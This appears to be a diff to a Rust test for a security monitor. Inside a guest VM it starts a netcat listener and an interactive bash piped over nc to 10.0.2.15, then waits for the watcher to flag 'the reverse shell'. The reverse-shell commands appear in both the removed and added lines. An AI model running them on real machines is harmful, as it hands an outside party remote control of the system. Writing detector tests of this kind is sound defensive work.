@@ -70,11 +70,16 @@ fn same(said: &Value, line: &Value, except: &[&str]) {
 
 /// A shell whose input and output another process relays over a connection.
 pub(crate) fn is_told_by_value(guest: &mut Guest, watcher: &Watcher) {
-    let script = format!(
-        "busybox mkfifo /tmp/relay /tmp/silent; nc -l -p {PORT} <>/tmp/silent >/dev/null 2>&1 & \
-         until netstat -ltn | grep -q :{PORT}; do sleep 0.1; done; \
-         (bash --norc -i </tmp/relay 2>&1 | nc 10.0.2.15 {PORT} >/tmp/relay) >/dev/null 2>&1 &"
+    let server = format!("nc -l -p {PORT} <>/tmp/silent >/dev/null 2>&1 &");
+    inside::run(guest, &format!("busybox mkfifo /tmp/relay /tmp/silent; {server}"));
+    inside::wait_for_listener(guest, watcher, PORT);
+    // The connection comes last. A shell that starts has other descriptors, too. When it asks for
+    // its first command, it has only those that it keeps.
+    let relay = format!(
+        "until read -r line && [ \"$line\" = ready ]; do :; done; exec nc 10.0.2.15 {PORT}"
     );
+    let shell = "PS1='ready\\n$ ' bash --norc -i";
+    let script = format!("({shell} </tmp/relay 2>&1 | ({relay}) >/tmp/relay) >/dev/null 2>&1 &");
     inside::run(guest, &script);
     let is_it = |record: &crate::record::Record| record.is(DETECTED);
     watcher.wait_for("the reverse shell", is_it);
